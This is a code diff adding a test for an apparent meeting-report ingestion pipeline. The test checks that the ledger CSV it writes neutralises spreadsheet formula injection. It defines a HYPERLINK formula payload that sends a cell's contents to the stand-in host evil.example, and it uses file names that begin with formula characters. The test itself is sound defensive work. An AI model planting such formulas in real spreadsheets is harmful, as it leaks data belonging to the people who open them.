@@ -317,3 +317,30 @@ def test_a_meeting_report_cut_at_a_line_end_is_loaded_with_a_note_that_its_count
     note = ledger.loc["bootcamp.csv", "error"]
     assert "could not be checked" in note and "meeting participants report" in note
     assert pd.isna(ledger.loc["reg.csv", "error"]), "a report its own counts vouch for has no note"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def test_the_ledger_on_the_share_holds_no_live_formula_and_reads_back_as_written(tmp_path, sqlite_warehouse):
+    import csv
+
+    drop_dir = tmp_path / "zoom_drop"
+    report = registration_report(FORMULA, "812 3456 7890", START, [ASHA])
+    drop(drop_dir, "=HYPERLINK(1).csv", report, age_seconds=300)
+    drop(drop_dir, "'-quoted already.csv", "not a report", age_seconds=200)  # its own apostrophe survives the round trip
+    drop(drop_dir, "+1 leads.csv", "", age_seconds=100)
+    run(drop_dir, sqlite_warehouse)
+
+    with (drop_dir / "ledger" / "ingested_files.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not live, f"cells a spreadsheet would run as formulas: {live}"
+
+    drop(drop_dir, "again.csv", report)  # the ledger is the archive's index: read back, it knows this content
+    run(drop_dir, sqlite_warehouse)
+    ledger = sqlite_warehouse.read_table("ingested_files")
+    assert ledger["file_name"].tolist() == ["=HYPERLINK(1).csv", "'-quoted already.csv", "+1 leads.csv", "again.csv"]
+    assert ledger["status"].tolist() == ["loaded", "rejected", "rejected", "duplicate"]
+    assert ledger["event_name"].iloc[0] == FORMULA
+    assert ledger["error"].iloc[2].startswith("+1 leads.csv: the file is empty")
